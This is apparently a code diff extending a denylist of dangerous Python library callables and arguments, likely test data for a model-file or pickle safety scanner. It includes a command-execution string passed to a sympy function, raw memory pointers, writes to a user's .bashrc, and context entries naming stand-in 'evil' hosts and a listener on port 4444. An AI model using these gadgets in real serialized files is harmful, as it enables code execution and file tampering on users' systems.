@@ -234,6 +234,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("torch._lazy.extract_compiled_graph", "fx.symbolic_trace", ("m",)),
         ("torch.nn.parallel.replicate", "ScriptModule.define", ("def f(x): return x",)),
         ("scipy.stats._stats_py", "_make_tuple_bunch", ("T", "a")),
+        ("torch.utils._sympy.functions", "S", ("__import__('os').system('id')",)),
         # `name` is put in a def line and exec'd
         (
             "scipy.optimize._nonlin",
@@ -320,6 +321,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("torch", "UntypedStorage._new_with_weak_ptr", (140000000,)),
         ("torch.storage", "UntypedStorage._free_weak_ref", (140000000,)),
         ("torch", "UntypedStorage._set_cdata", (140000000,)),
+        ("torch._subclasses.fake_tensor", "StorageWeakRef.from_weakref", (140000000,)),
         ("pyarrow", "Array._export_to_c", (140000000,)),
         ("pyarrow", "foreign_buffer", (140000000, 4096)),
         ("pyarrow.cffi", "ffi.cast", ("void(*)()", 140000000)),
@@ -361,6 +363,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("networkx", "read_gpickle", ("/tmp/x.gpickle",)),
         ("joblib", "MemorizedResult", ("/home/u/cache", "f", "id")),
         ("torch._prims.debug_prims", "ContentStoreReader", ("/tmp/store",)),
+        ("torch.utils.data.dataloader", "_IterDataPipeSerializationWrapper", ("dp",)),
         ("torch._utils", "_augment_memory_snapshot_stack_traces", ("/tmp/x.pickle",)),
         # WeightsEnum.get_state_dict(obj) is load_state_dict_from_url(obj.url), weights_only=False
         ("torchvision.models._api", "WeightsEnum.get_state_dict", ("w", True)),
@@ -468,6 +471,8 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("pandas.core.frame", "get_handle", ("/home/u/.bashrc", "w")),
         ("joblib", "PrintTime", ("/home/u/.bashrc",)),
         ("sklearn.model_selection._validation", "logger.PrintTime", ("/home/u/.bashrc",)),
+        ("pandas.core.generic", "HDFStore", ("/home/u/.bashrc", "w")),
+        ("torch.utils._zip", "ZipFile", ("/home/u/.bashrc", "w")),
         ("scipy.odr._odrpack", "ODR.run", ("odr",)),
         ("catboost.datasets", "_cached_dataset_load", ("http://evil/x.tgz", "..", "a", "b")),
         ("catboost.datasets", "_extract", ("/tmp/x.tgz", "/home/u")),
@@ -512,6 +517,7 @@ DANGEROUS: dict[str, list[tuple[str, str, tuple[Any, ...]]]] = {
         ("fastdownload", "FastDownload", ()),
         ("distributed", "Client", ("tcp://evil:8786",)),
         ("sklearn.callback._transport", "Listener", ("0.0.0.0:4444",)),
+        ("sklearn.callback._transport", "Connection", (0,)),
         ("torch.nn.parallel.distributed", "RRef", ("x",)),
         ("joblib._dask", "get_client", ()),
         ("pyarrow.flight", "connect", ("grpc://evil:1",)),
